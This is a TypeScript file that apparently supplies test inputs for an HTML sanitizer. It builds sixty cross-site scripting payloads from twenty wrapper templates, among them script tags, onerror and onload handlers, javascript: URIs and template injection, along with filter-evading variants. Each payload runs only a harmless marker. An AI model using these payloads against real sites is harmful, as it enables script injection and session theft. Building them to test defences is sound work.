/** Tries to run a script from whatever becomes of it on a page; each sets the same mark when it succeeds. */
const mark = 'globalThis.__xss=1'

const wrappers: readonly ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `"><script>${s}</script>`,
  (s) => `</textarea><script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `<img src=x onerror=${s}>`,
  (s) => `"><img src=x onerror="${s}">`,
  (s) => `<svg onload=${s}>`,
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<iframe srcdoc="<script>parent.${s}</script>">`,
  (s) => `<iframe src="javascript:parent.${s}">`,
  (s) => `<a href="javascript:${s}">x</a>`,
  (s) => `javascript:${s}`,
  (s) => `<body onload=${s}>`,
  (s) => `<details open ontoggle=${s}>`,
  (s) => `<input autofocus onfocus=${s}>`,
  (s) => `<math><mtext><img src=x onerror=${s}></mtext></math>`,
  (s) => `<object data="javascript:${s}">`,
  (s) => `<style>@import 'javascript:${s}'</style>`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => `'-${s}-'`,
]

/** Sixty of them: as they are, as entities, and with characters that confuse filters. */
export const hostile: readonly string[] = wrappers.flatMap((wrap) => [
  wrap(mark),
  wrap(mark).replaceAll('<', '&lt;').replaceAll('&lt;', '<\u0001'),
  wrap(mark).replaceAll('script', 'scr\u200bipt').replaceAll('on', 'oN'),
])
